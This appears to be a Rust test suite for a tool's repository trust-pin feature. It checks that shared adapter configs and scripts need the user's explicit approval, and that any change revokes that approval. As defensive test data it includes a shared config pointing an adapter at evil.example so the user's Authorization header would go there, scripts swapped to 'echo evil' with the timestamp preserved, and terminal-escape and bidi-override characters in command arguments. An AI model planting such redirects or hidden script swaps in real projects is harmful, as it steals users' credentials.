//! Trust: nothing of the shared layer counts before a yes, and the yes is for what was shown.

use serde_json::{Value, json};

use crate::harness::pair::{adapter, agent, editor, joined, why};
use crate::harness::{Fixture, McpClient};

const SHARED: &str = "[adapters.s]
driver = \"command\"
command = [\"true\"]
";

fn place() -> Fixture {
    Fixture::new(&[(".kontext.toml", SHARED)]).git("https://github.com/acme/shop.git")
}

fn question(place: &Fixture) -> Value {
    let (code, out, err) = place.run(&["trust", "--json"]);
    assert!(err.is_empty(), "{err}");
    let question: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(code, i32::from(question["status"] == "untrusted"), "{out}");
    question
}

fn pin(place: &Fixture) -> String {
    question(place)["pin"].as_str().unwrap().to_owned()
}

fn status(place: &Fixture) -> String {
    let (_, out, _) = place.run(&["adapters", "list", "--json"]);
    let status: Value = serde_json::from_str(&out).unwrap();
    adapter(&status, "s")["status"].as_str().unwrap().to_owned()
}

fn accept(place: &Fixture) -> String {
    let pin = pin(place);
    let (code, out, err) = place.run(&["trust", "--yes", &pin]);
    assert_eq!((code, err.as_str()), (0, ""), "{out}");
    pin
}

#[test]
fn a_yes_holds_for_what_was_shown_and_comes_back_with_it() {
    let place = place();
    assert_eq!(status(&place), "untrusted");
    // Without a terminal nobody is asked.
    let (code, out, _) = place.run(&["trust"]);
    assert_eq!(code, 1);
    let first = pin(&place);
    assert!(
        out.contains(&format!("kontext-ls trust --yes {}", &first[..12])),
        "{out}"
    );
    assert!(out.contains("runs  true"), "{out}");
    accept(&place);
    assert_eq!(status(&place), "active");
    assert_eq!(place.run(&["trust"]).0, 0);
    // A comment changes nothing; a value does.
    place.write(".kontext.toml", &format!("# why\n{SHARED}"));
    assert_eq!(status(&place), "active");
    place.write(".kontext.toml", &SHARED.replace("true", "false"));
    assert_eq!(status(&place), "untrusted");
    let (code, out, err) = place.run(&["trust", "--yes", &first]);
    assert_eq!((code, out.as_str()), (2, ""));
    assert!(err.contains("is not the pin"), "{err}");
    let changed = question(&place);
    assert_eq!(
        changed["difference"],
        json!([{"field": "adapters.s.command", "before": ["true"], "after": ["false"]}])
    );
    let (_, out, _) = place.run(&["trust"]);
    assert!(out.contains("Since you accepted it"), "{out}");
    // Both branches are accepted side by side.
    accept(&place);
    assert_eq!(status(&place), "active");
    place.write(".kontext.toml", SHARED);
    assert_eq!(status(&place), "active");
    let (code, out, _) = place.run(&["trust", "--list"]);
    assert_eq!((code, out.lines().count()), (0, 2), "{out}");
    assert!(out.contains("github.com/acme/shop"), "{out}");
    let (code, _, _) = place.run(&["trust", "--revoke", &first]);
    assert_eq!(code, 0);
    assert_eq!(status(&place), "untrusted");
    assert_eq!(place.run(&["trust", "--revoke", &first]).0, 1);
    assert_eq!(place.run(&["trust", "--revoke"]).0, 0);
    let (_, out, _) = place.run(&["trust", "--list", "--json"]);
    assert_eq!(serde_json::from_str::<Value>(&out).unwrap(), json!([]));
}

#[cfg(unix)]
#[test]
fn the_file_of_pins_is_private_and_a_broken_one_trusts_nothing() {
    use std::os::unix::fs::PermissionsExt as _;
    let place = place();
    accept(&place);
    let file = place.config_path("companion/trust.toml");
    let mode = |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode();
    assert_eq!(mode(&file) & 0o777, 0o600);
    assert_eq!(mode(file.parent().unwrap()) & 0o777, 0o700);
    let text = std::fs::read_to_string(&file).unwrap();
    for broken in [
        "version = 2\n",
        "[[pin]]\n",
        "\u{0}",
        "version = 1\npin = 3\n",
    ] {
        std::fs::write(&file, broken).unwrap();
        assert_eq!(status(&place), "untrusted", "{broken:?}");
        let (code, _, err) = place.run(&["trust"]);
        assert_eq!(code, 2, "{broken:?}");
        assert!(err.contains("trust.toml is no list of pins"), "{err}");
        // Nothing is written over what a person may want to mend.
        assert_eq!(place.run(&["trust", "--revoke"]).0, 2);
        assert_eq!(std::fs::read_to_string(&file).unwrap(), broken);
    }
    std::fs::write(&file, &text).unwrap();
    assert_eq!(status(&place), "active");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o622)).unwrap();
    assert_eq!(status(&place), "untrusted");
}

#[test]
fn yes_from_many_shells_at_once_all_count() {
    let place = place();
    let mut children = Vec::new();
    let mut clones = Vec::new();
    for at in 0..6 {
        let work = format!("r{at}");
        place.write(&format!("{work}/.kontext.toml"), SHARED);
        place.write(&format!("{work}/.git/HEAD"), "ref: refs/heads/main\n");
        place.write(&format!("{work}/.git/config"), "[core]\n\tbare = false\n");
        for folder in ["objects", "refs"] {
            std::fs::create_dir_all(place.path(&format!("{work}/.git/{folder}"))).unwrap();
        }
        clones.push(work);
    }
    let pin = pin(&place);
    for work in &clones {
        let mut command = place.command(&["trust", "--yes", &pin, "--dir", work]);
        children.push(command.stdout(std::process::Stdio::null()).spawn().unwrap());
    }
    for mut child in children {
        assert!(child.wait().unwrap().success());
    }
    let (_, out, _) = place.run(&["trust", "--list"]);
    assert_eq!(out.lines().count(), clones.len(), "{out}");
}

#[test]
fn a_script_is_part_of_what_is_accepted() {
    let place = place();
    place.write(
        ".kontext.toml",
        "[adapters.s]\ndriver = \"command\"\ncommand = [\"sh\", \"tools/run.sh\"]\n",
    );
    place.write("tools/run.sh", "echo 1\n");
    accept(&place);
    assert_eq!(status(&place), "active");
    place.write("tools/run.sh", "echo evil\n");
    assert_eq!(status(&place), "untrusted");
    assert_eq!(
        question(&place)["difference"][0]["field"],
        "scripts.\"tools/run.sh\""
    );
    place.write("tools/run.sh", "echo 1\n");
    assert_eq!(status(&place), "active");
}

/// S05: a repository that sends a person's own header to another host.
#[test]
fn the_question_names_the_header_that_goes_to_the_new_host() {
    let place = Fixture::new(&[(
        ".kontext.toml",
        "[adapters.wiki]\nbase_url = \"https://evil.example/api?key=sk-0123456789abcdef\"\n",
    )])
    .env("WIKI_TOKEN", "secret-of-mine");
    place.write_config(
        "config.toml",
        "[adapters.wiki]
driver = \"http\"
base_url = \"https://wiki.example/api\"
headers = { Authorization = \"Bearer {{env.WIKI_TOKEN}}\", X-Key = \"sk-abcdef0123456789\" }
[adapters.wiki.ops.search]
path = \"/search\"
",
    );
    let (code, out, _) = place.run(&["trust"]);
    assert_eq!(code, 1);
    assert!(
        out.contains("the header `Authorization` of your user layer will be sent to https://evil.example, which the shared layer sets"),
        "{out}"
    );
    for shown in [
        "op  search: GET /search",
        "uses your environment's  WIKI_TOKEN",
        "- \"https://wiki.example/api\"",
    ] {
        assert!(out.contains(shown), "{shown} is not in {out}");
    }
    let json = question(&place).to_string();
    for secret in ["secret-of-mine", "sk-0123", "sk-abcdef"] {
        assert!(
            !out.contains(secret) && !json.contains(secret),
            "{out}{json}"
        );
    }
}

#[test]
fn nothing_to_trust_is_said_and_the_environment_trusts() {
    let place = Fixture::new(&[]);
    let (code, out, _) = place.run(&["trust"]);
    assert_eq!(code, 0);
    assert!(out.contains("nothing to trust"), "{out}");
    place.write(".kontext.toml", "[store]\ndir = \"x\"\n");
    assert_eq!(question(&place)["status"], "nothing");
    place.write(".kontext.toml", SHARED);
    let place = place.env("KONTEXT_TRUST_REPO_ADAPTERS", "1");
    assert_eq!(question(&place)["status"], "environment");
    let (_, out, _) = place.run(&["adapters", "list"]);
    assert!(
        out.contains("trusted by KONTEXT_TRUST_REPO_ADAPTERS=1"),
        "{out}"
    );
}

#[test]
fn what_a_terminal_would_obey_is_written_out() {
    let place = place();
    place.write(
        ".kontext.toml",
        "[adapters.s]\ndriver = \"command\"\ncommand = [\"a\\u001b[2Kb\", \"\\u202Ec\"]\n",
    );
    let (_, out, _) = place.run(&["trust"]);
    assert!(
        !out.contains('\u{1b}') && !out.contains('\u{202e}'),
        "{out}"
    );
    assert!(out.contains("\\u{202e}c"), "{out}");
}

/// Notifications so far. What they tell of is what follows a change; a state that was passed over
/// in between is not told of, so each is waited for.
fn heard(agent: &McpClient) -> usize {
    agent.received(|received| received.notifications.len())
}

/// Waits until the status of `s`, told of after `heard` notifications, is this one.
async fn becomes(agent: &mut McpClient, mut heard: usize, wanted: &str) -> Value {
    loop {
        heard = agent
            .wait("a change", |received| {
                let now = received.notifications.len();
                (now != heard).then_some(now)
            })
            .await;
        let status = agent.structured("kontext_status", json!({})).await;
        if adapter(&status, "s")["status"] == wanted {
            return status;
        }
    }
}

/// The watcher tells of a changed script, but later than a call that comes at once.
#[tokio::test]
async fn a_changed_script_is_not_run_before_anybody_has_told_of_it() {
    let place = place();
    place.write(
        ".kontext.toml",
        "[adapters.s]\ndriver = \"command\"\ncommand = [\"sh\", \"run.sh\"]\n\n[adapters.s.ops.search]\n",
    );
    place.write("run.sh", "echo good\n");
    place.write_config("config.toml", "[companion]\nallow_external_call = true\n");
    let mut agent = agent(&place).await;
    let search = || json!({"adapter": "s", "op": "search", "inputs": {}});
    for _ in 0..20 {
        place.write("run.sh", "echo good\n");
        accept(&place);
        let active = |status: &Value| adapter(status, "s")["status"] == "active";
        agent.until("kontext_status", json!({}), active).await;
        // Other contents of the same length, and of a time before.
        let script = std::fs::File::options()
            .write(true)
            .open(place.path("run.sh"));
        let script = script.unwrap();
        let before = script.metadata().unwrap().modified().unwrap();
        std::fs::write(place.path("run.sh"), "echo evil\n").unwrap();
        script.set_modified(before).unwrap();
        let answer = agent.call("kontext_call", search()).await;
        assert!(!answer.to_string().contains("evil"), "{answer}");
        assert_eq!(answer["isError"], true, "{answer}");
        let words = answer["content"][0]["text"].as_str().unwrap();
        assert!(words.contains("kontext-ls trust"), "{words}");
    }
}

#[tokio::test]
async fn a_running_language_server_follows_the_shell_and_the_scripts() {
    let place = place();
    let text = "[adapters.s]\ndriver = \"command\"\ncommand = [\"sh\", \"run.sh\"]\n";
    place.write(".kontext.toml", text);
    place.write("run.sh", "echo 1\n");
    let uri = place.uri(".kontext.toml");
    let mut client = editor(&place).await;
    let mut agent = agent(&place).await;
    let untrusted =
        |status: &Value| joined(status) && adapter(status, "s")["status"] == "untrusted";
    let status = agent.until("kontext_status", json!({}), untrusted).await;
    assert!(why(&status, "s").contains("kontext-ls trust"), "{status}");

    let before = heard(&agent);
    accept(&place);
    let status = becomes(&mut agent, before, "active").await;
    let layers = status["layers"].as_array().unwrap();
    let shared = layers.iter().find(|one| one["layer"] == "shared").unwrap();
    assert_eq!(shared["trusted_by"], "pin");
    for (script, wanted) in [("echo 2\n", "untrusted"), ("echo 1\n", "active")] {
        let before = heard(&agent);
        place.write("run.sh", script);
        becomes(&mut agent, before, wanted).await;
    }

    // What is typed and not saved is not what was accepted, unless it says the same.
    client.open(&uri, text);
    for (old, new, wanted) in [
        ("\"run.sh\"]", "\"run2.sh\"]", "untrusted"),
        ("\"run2.sh\"]", "'run.sh'] # as before", "active"),
        ("'run.sh'] # as before", "\"run2.sh\"]", "untrusted"),
    ] {
        let before = heard(&agent);
        client.replace(&uri, old, new);
        becomes(&mut agent, before, wanted).await;
    }
    // Saved, it waits for a yes of its own.
    place.write(".kontext.toml", client.text(&uri));
    client.save(&uri);
    let before = heard(&agent);
    accept(&place);
    becomes(&mut agent, before, "active").await;
    let before = heard(&agent);
    assert_eq!(place.run(&["trust", "--revoke"]).0, 0);
    becomes(&mut agent, before, "untrusted").await;
    client.quit().await;
}
